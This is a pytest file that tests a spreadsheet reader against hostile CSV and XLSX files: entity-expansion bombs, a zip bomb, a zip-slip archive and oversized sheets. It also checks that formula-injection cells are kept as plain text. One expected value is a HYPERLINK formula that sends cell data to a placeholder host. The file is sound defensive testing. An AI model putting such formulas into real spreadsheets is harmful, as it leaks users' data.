"""Files that mean harm are refused or read as plain text, quickly and in little memory (F13, sheets)."""

import random
import resource
import time
from pathlib import Path

import pytest

from archive import sheets
from archive.sheets import SheetError
from tests.archive.sheets import hostile_sheets
from tests.archive.sheets.damage import damaged

HOSTILE = hostile_sheets.build()
SAID = {
    "nul.csv": "nul",
    "wide.csv": "too_many_columns",
    "long-cell.csv": "cell_too_long",
    "entity.xlsx": "declares_entities",
    "laugh.xlsx": "declares_entities",
    "bomb.xlsx": "unpacks_too_big",
    "far-corner.xlsx": "too_many_rows",
}
READ = {
    "formula.csv": [
        ("name", "note"),
        ('=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "+1"),
        ("@SUM(1)", "-2+3"),
        ("\t=1+1", "\r=2"),
    ],
    "latin1.csv": [("name",), ("Satô",)],
    "sjis.csv": [("氏名",), ("齋藤 勇",)],
    "bom16.csv": [("氏名",), ("齋藤 勇",)],
    "link.xlsx": [("name", "Kato")],
    "slip.xlsx": [("name", "Kato")],
}
MOST_SECONDS, MOST_KIB = 10, 512 * 1024


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_sheet_is_refused_or_harmless(name):
    data, outcome = HOSTILE[name]
    started = time.process_time()

    if outcome == "refuse":
        with pytest.raises(SheetError) as refused:
            sheets.read_file(data, name=name)
        assert refused.value.code == SAID[name]
    else:
        (sheet,) = sheets.read_file(data, name=name)
        assert [row.cells for row in sheet.rows] == READ[name]
    assert time.process_time() - started < MOST_SECONDS
    assert not Path("/tmp/slip-819").exists()


def test_damaged_workbooks_are_refused_or_read_and_never_crash(specimen_workbook):
    """500 copies with bytes changed, cut or doubled: an error with a name, or a sheet."""
    draw = random.Random(819)
    outcomes = set()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    slowest = 0.0
    for _round in range(500):
        started = time.process_time()
        try:
            sheets.read_file(damaged(specimen_workbook, draw))
            outcomes.add("read")
        except SheetError as error:
            outcomes.add(error.code)
        slowest = max(slowest, time.process_time() - started)
    assert outcomes >= {"read", "damaged"}
    assert slowest < MOST_SECONDS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < MOST_KIB
